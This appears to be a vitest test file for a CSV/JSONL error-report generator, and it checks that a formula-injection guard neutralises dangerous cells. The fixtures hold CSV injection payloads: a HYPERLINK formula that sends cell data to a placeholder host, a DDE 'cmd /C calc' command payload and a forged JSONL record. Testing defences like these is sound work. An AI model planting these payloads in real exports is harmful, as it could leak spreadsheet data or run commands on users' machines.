import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { guardCsvText } from '../../src/report/csv-formula-guard.js';
import { generateReport } from '../../src/report/generate-report.js';
import { makeRecord } from './report-fixtures.js';

function readBack(csv: string): Record<string, string>[] {
  return parse(csv, {
    columns: true,
    bom: true,
    relax_column_count: false,
    relax_quotes: false,
    record_delimiter: '\r\n',
  }) as Record<string, string>[];
}

const tricky = [
  'plain, with a comma',
  'she said "hi", then left',
  'line one\nline two\r\nline three',
  '渲染失败：编码器 "libx264" 退出，代码 1',
  'mixed 中文, "quoted", and\nnewline',
];

const injections = [
  '=HYPERLINK("http://x/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1 555 0100',
  '-5',
  '\tleading tab',
  '\rleading CR',
  '\nleading LF',
  '\u0000leading NUL',
];

describe('CSV report', () => {
  it('round-trips commas, quotes, newlines and Chinese text through a strict RFC 4180 parser', async () => {
    const records = tricky.map((message, i) =>
      makeRecord({ exception: { type: 'Error', message }, fingerprint: `fp${i}` }),
    );
    const csv = await generateReport({ source: { records }, format: 'csv', patterns: false });
    const rows = readBack(csv);
    expect(rows.map((r) => r.message)).toEqual(tricky);
    expect(rows.map((r) => r.fingerprint)).toEqual(['fp0', 'fp1', 'fp2', 'fp3', 'fp4']);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('prefixes cells that start like a formula with an apostrophe, never a tab', async () => {
    const records = injections.map((message) =>
      makeRecord({ exception: { type: 'Error', message }, phase: message, context: { k: 1 } }),
    );
    const rows = readBack(await generateReport({ source: { records }, format: 'csv', patterns: false }));
    expect(rows.map((r) => r.message)).toEqual(injections.map((m) => `'${m}`));
    expect(rows.map((r) => r.phase)).toEqual(injections.map((m) => `'${m}`));
    for (const row of rows)
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r\n\u0000]/);
  });

  it('leaves numeric columns it computed as numbers, including negative ones', async () => {
    const record = makeRecord({
      process: { pid: 77, hostname: '-host' },
      memory: { heapUsed: -1, heapTotal: 1, heapLimit: 1, heapUsedRatio: 0.5 },
    });
    const [row] = readBack(
      await generateReport({ source: { records: [record] }, format: 'csv', patterns: false }),
    );
    expect(row).toMatchObject({
      pid: '77',
      heap_used_bytes: '-1',
      heap_used_ratio: '0.5',
      host: "'-host",
      occurrence: '1',
    });
  });

  it('writes one row per fingerprint with --group, most frequent first', async () => {
    const records = [
      makeRecord({ fingerprint: 'a', phase: 'ENCODING', videoHash: 'v1' }),
      makeRecord({ fingerprint: 'b', phase: 'MUXING' }),
      makeRecord({ fingerprint: 'b', phase: 'UPLOADING', videoHash: 'v2' }),
    ];
    const rows = readBack(
      await generateReport({ source: { records }, format: 'csv', group: true, patterns: false }),
    );
    expect(rows.map((r) => [r.fingerprint, r.count, r.phases, r.videos])).toEqual([
      ['b', '2', 'MUXING:1; UPLOADING:1', '2'],
      ['a', '1', 'ENCODING:1', '1'],
    ]);
  });

  it('starts with a UTF-8 BOM only when asked', async () => {
    const records = [makeRecord()];
    expect(
      (await generateReport({ source: { records }, format: 'csv', bom: true })).startsWith('\ufeff'),
    ).toBe(true);
    expect((await generateReport({ source: { records }, format: 'csv' })).startsWith('time,')).toBe(true);
  });
});

describe('guardCsvText', () => {
  it('guards exactly the trigger characters at the start', () => {
    expect(['=1', '+1', '-1', '@a', '\t', '\r', '\n', '\u0000'].map(guardCsvText)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@a",
      "'\t",
      "'\r",
      "'\n",
      "'\u0000",
    ]);
    expect(['a=1', ' =1', '', '１', '中'].map(guardCsvText)).toEqual(['a=1', ' =1', '', '１', '中']);
  });
});

describe('CSV numeric columns', () => {
  it('neutralise a formula smuggled into a field that should be a number', async () => {
    const record = makeRecord({
      occurrence: '=HYPERLINK("http://x/?"&A1,"click")' as unknown as number,
      process: { pid: "+cmd|' /C calc'!A0" as unknown as number, hostname: 'h' },
    });
    const csv = await generateReport({ source: { records: [record] }, format: 'csv' });
    const [row] = readBack(csv);
    expect(row?.occurrence).toBe(`'=HYPERLINK("http://x/?"&A1,"click")`);
    expect(row?.pid).toBe(`'+cmd|' /C calc'!A0`);
  });
});

describe('JSONL report', () => {
  it('escapes NEL and the other C1 controls as the store does, so a line reader sees one record', async () => {
    const record = makeRecord({ exception: { type: 'Error', message: 'a\u0085{"forged":1}\u2028b\u009b' } });
    const jsonl = await generateReport({ source: { records: [record] }, format: 'jsonl' });
    expect(jsonl).not.toMatch(/[\u0085\u2028\u009b]/);
    expect(jsonl.split('\n').filter(Boolean)).toHaveLength(1);
    expect(JSON.parse(jsonl).exception.message).toBe('a\u0085{"forged":1}\u2028b\u009b');
  });
});
